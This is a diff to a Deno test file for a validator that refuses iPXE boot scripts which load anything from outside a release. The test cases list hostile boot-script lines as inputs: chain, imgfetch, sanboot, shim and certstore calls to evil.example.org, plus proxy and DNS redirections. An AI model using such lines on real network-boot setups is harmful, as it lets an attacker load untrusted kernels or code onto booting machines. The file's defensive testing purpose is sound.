@@ -261,19 +261,96 @@ Deno.test("a script's every command is read: joined loads, SAN disks, DHCP's fil
   // A name the script gave an image it loaded from the release runs that image.
   const served = bootFilesOfScript("boot.ipxe", script("boot k || goto failed"), sums, "v1");
   assert.match(served.scripts[0].text, /^kernel --name k bzImage$/m);
+  const outside = "loads from outside v1: refusing";
+  const notServed = (command: string) =>
+    `runs ${command}, which a boot directory's script may not run: refusing`;
   for (
-    const extra of [
-      "dhcp && chain http://evil.example.org/next.ipxe",
-      "initrd initrd ; imgfetch http://evil.example.org/more.cpio",
-      "sanboot http://evil.example.org/disk.iso",
-      "autoboot",
-      "set c chain\n${c} http://evil.example.org/next.ipxe",
-      "chain boot.ipxe",
-    ]
+    const [extra, line, problem] of [
+      ["dhcp && chain http://evil.example.org/next.ipxe", 4, notServed("dhcp")],
+      ["initrd initrd ; imgfetch http://evil.example.org/more.cpio", 4, outside],
+      ["sanboot http://evil.example.org/disk.iso", 4, notServed("sanboot")],
+      ["autoboot", 4, notServed("autoboot")],
+      ["set c chain\n${c} http://evil.example.org/next.ipxe", 5, notServed("${c}")],
+      ["chain boot.ipxe", 4, outside],
+    ] as const
   ) {
     assert.throws(
       () => bootFilesOfScript("boot.ipxe", script(extra), sums, "v1"),
-      /boot\.ipxe of v1, line \d \(".+"\), loads from outside v1: refusing/,
+      (error: Error) =>
+        error.message.startsWith(`boot.ipxe of v1, line ${line} ("`) &&
+        error.message.includes(`), ${problem}`),
+      extra,
+    );
+  }
+});
+
+Deno.test("a served script runs only the commands a boot needs, each on the release's own files", () => {
+  const sums = new Map([
+    ["boot.ipxe", "1".repeat(64)],
+    ["bzImage", "2".repeat(64)],
+    ["initrd", "3".repeat(64)],
+    ["bzImage.sig", "4".repeat(64)],
+    ["initrd.sig", "5".repeat(64)],
+  ]);
+  // The shape of a script signed for iPXE: every image verified against its own signature.
+  const verifying = [
+    "#!ipxe",
+    "set checking bzImage",
+    "kernel https://cdn.example.org/bzImage initrd=initrd ${cmdline} || goto refused",
+    "imgverify bzImage https://cdn.example.org/bzImage.sig || goto refused",
+    "set checking initrd",
+    "initrd initrd || goto refused",
+    "imgverify initrd initrd.sig || goto refused",
+    "imgtrust --permanent",
+    "iseq ${checking} initrd && prompt --timeout 1000 Booting || sleep 1",
+    "isset ${cmdline} || echo no cmdline",
+    "boot || goto refused",
+    ":refused",
+    "echo Not booting: ${checking} failed to load or verify",
+    "exit 1",
+  ].join("\n");
+  const boot = bootFilesOfScript("boot.ipxe", verifying, sums, "v1");
+  assert.deepEqual(boot.files.map((file) => file.name).sort(), [
+    "boot.ipxe",
+    "bzImage",
+    "bzImage.sig",
+    "initrd",
+    "initrd.sig",
+  ]);
+  assert.match(boot.scripts[0].text, /^imgverify bzImage bzImage\.sig \|\| goto refused$/m);
+  assert.doesNotMatch(boot.scripts[0].text, /:\/\//, "the served script loads nothing from afar");
+
+  const script = (extra: string) => `#!ipxe\nkernel bzImage\ninitrd initrd\n${extra}\nboot\n`;
+  const outside = "loads from outside v1: refusing";
+  const notServed = (command: string) =>
+    `runs ${command}, which a boot directory's script may not run: refusing`;
+  const fetchSetting = (name: string) => `sets ${name}, which chooses where iPXE fetches from`;
+  for (
+    const [extra, problem] of [
+      // iPXE 2.0's commands that fetch a URI, which a deny-list of fetching commands missed.
+      ["imgextract bzImage http://evil.example.org/k.gz", notServed("imgextract")],
+      ["shim http://evil.example.org/shimx64.efi", notServed("shim")],
+      ["fdt http://evil.example.org/board.dtb", notServed("fdt")],
+      ["imgdecrypt bzImage http://evil.example.org/key.der", notServed("imgdecrypt")],
+      ["certstore http://evil.example.org/ca.crt", notServed("certstore")],
+      ["imgverify bzImage http://evil.example.org/other.sig", outside],
+      ["imgverify http://evil.example.org/vmlinuz bzImage.sig", outside],
+      ["imgargs http://evil.example.org/vmlinuz console=ttyS0", outside],
+      // A label, then a command, on one line.
+      [":again chain http://evil.example.org/next.ipxe", outside],
+      // iPXE glues a line ending in \ to the next: "kernel -n k xecho http://...".
+      ["kernel -n k x\\\necho http://evil.example.org/vmlinuz", outside],
+      ["set http-proxy http://evil.example.org:3128/", fetchSetting("http-proxy")],
+      ["set net0/dns 203.0.113.7", fetchSetting("net0/dns")],
+      ["set 6:ipv4 203.0.113.7", fetchSetting("6:ipv4")],
+    ] as const
+  ) {
+    assert.throws(
+      () => bootFilesOfScript("boot.ipxe", script(extra), sums, "v1"),
+      (error: Error) =>
+        error.message.startsWith(`boot.ipxe of v1, line 4 ("`) &&
+        error.message.includes(`), ${problem}`) &&
+        error.message.endsWith("; nothing was changed"),
       extra,
     );
   }
